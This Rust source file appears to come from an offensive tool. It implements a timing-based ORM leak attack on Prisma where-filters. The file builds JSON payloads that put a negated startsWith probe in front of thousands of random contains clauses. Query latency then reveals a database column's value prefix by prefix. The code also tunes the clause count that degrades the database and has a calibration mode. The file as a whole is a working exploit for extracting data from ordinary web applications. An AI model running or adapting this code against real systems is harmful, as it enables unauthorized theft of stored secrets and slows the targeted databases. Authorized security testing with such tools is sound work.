//! Time-based leak through Prisma `where` filters.
//!
//! The DoS construct is an `OR` of `contains` clauses over random tokens.
//! The leak clause is prepended negated: when the candidate is a prefix of
//! the column, `NOT startsWith` is false and the database has to evaluate
//! every `contains` clause, which is measurably slower.

use super::template::{JsonTemplate, ORM_LEAK, PAYLOAD, RANDOM_STRING};
use crate::client::HttpTarget;
use crate::models::{Payload, PrismaContainsConfig, ProbeResponse, Result};
use crate::oracle::{Calibration, DosSearch, Oracle, TimingOracle};
use async_trait::async_trait;
use rand::Rng;
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Initial step of the halving search over the number of clauses.
const HALVING_STEP: usize = 1000;

pub struct PrismaContainsOracle {
    target: Arc<HttpTarget>,
    base_query: JsonTemplate,
    leak_query: JsonTemplate,
    contains_payload: JsonTemplate,
    /// Number of `contains` clauses
    contains_len: AtomicUsize,
    max_contains_length: usize,
    max_leak_length: usize,
    calibration: Option<(JsonTemplate, String)>,
}

impl PrismaContainsOracle {
    pub fn new(config: &PrismaContainsConfig, target: Arc<HttpTarget>) -> Result<Self> {
        let calibration = match (&config.calibration_leak_query, &config.hit_value) {
            (Some(query), Some(hit)) => Some((
                JsonTemplate::load("calibration leak query", query, ORM_LEAK)?,
                hit.clone(),
            )),
            _ => None,
        };

        Ok(Self {
            target,
            base_query: JsonTemplate::load("base query", &config.base_query, PAYLOAD)?,
            leak_query: JsonTemplate::load("leak query", &config.leak_query, ORM_LEAK)?,
            contains_payload: JsonTemplate::load(
                "contains payload",
                &config.contains_payload,
                RANDOM_STRING,
            )?,
            contains_len: AtomicUsize::new(config.start_contains_length),
            max_contains_length: config.max_contains_length,
            max_leak_length: config.max_leak_length,
            calibration,
        })
    }

    /// Same oracle leaking another column.
    fn with_leak_query(&self, leak_query: JsonTemplate) -> Self {
        Self {
            target: Arc::clone(&self.target),
            base_query: self.base_query.clone(),
            leak_query,
            contains_payload: self.contains_payload.clone(),
            contains_len: AtomicUsize::new(self.dos_magnitude()),
            max_contains_length: self.max_contains_length,
            max_leak_length: self.max_leak_length,
            calibration: None,
        }
    }
}

/// Escape LIKE wildcards so they match literally.
pub fn escape_wildcards(value: &str) -> String {
    value.replace('%', "\\%").replace('_', "\\_")
}

#[async_trait]
impl Oracle for PrismaContainsOracle {
    fn name(&self) -> &str {
        "prisma-contains"
    }

    fn create_payload(&self, candidate: &str) -> Payload {
        self.add_orm_leak_payload(self.build_dos_payload(), candidate)
    }

    async fn send_request(&self, payload: &Payload) -> Result<ProbeResponse> {
        self.target.send(payload).await
    }
}

impl TimingOracle for PrismaContainsOracle {
    fn build_dos_payload(&self) -> Payload {
        let mut rng = rand::rng();
        let clauses: Vec<Value> = (0..self.dos_magnitude())
            .map(|_| {
                let token = format!("{:016x}", rng.random::<u64>());
                self.contains_payload.with_str(&token)
            })
            .collect();
        Payload::Json(json!({ "OR": clauses }))
    }

    fn add_orm_leak_payload(&self, dos: Payload, candidate: &str) -> Payload {
        let leak = json!({ "NOT": self.leak_query.with_str(&escape_wildcards(candidate)) });

        let filter = match dos {
            Payload::Json(Value::Object(mut filter)) => {
                let mut clauses = vec![leak];
                if let Some(Value::Array(dos_clauses)) = filter.remove("OR") {
                    clauses.extend(dos_clauses);
                }
                filter.insert("OR".to_string(), Value::Array(clauses));
                Value::Object(filter)
            }
            _ => json!({ "OR": [leak] }),
        };

        Payload::Json(self.base_query.with_value(&filter))
    }

    fn dos_magnitude(&self) -> usize {
        self.contains_len.load(Ordering::Relaxed)
    }

    fn set_dos_magnitude(&self, magnitude: usize) {
        self.contains_len.store(magnitude, Ordering::Relaxed);
    }

    fn dos_search(&self) -> DosSearch {
        DosSearch::Halving {
            initial_step: HALVING_STEP,
            max: self.max_contains_length,
        }
    }

    fn fit_probe(&self) -> Payload {
        let longest = "A".repeat(self.max_leak_length);
        self.add_orm_leak_payload(self.build_dos_payload(), &longest)
    }

    fn calibration(&self) -> Option<Calibration> {
        let (query, hit_value) = self.calibration.as_ref()?;
        Some(Calibration {
            oracle: Arc::new(self.with_leak_query(query.clone())),
            hit_value: hit_value.clone(),
        })
    }
}
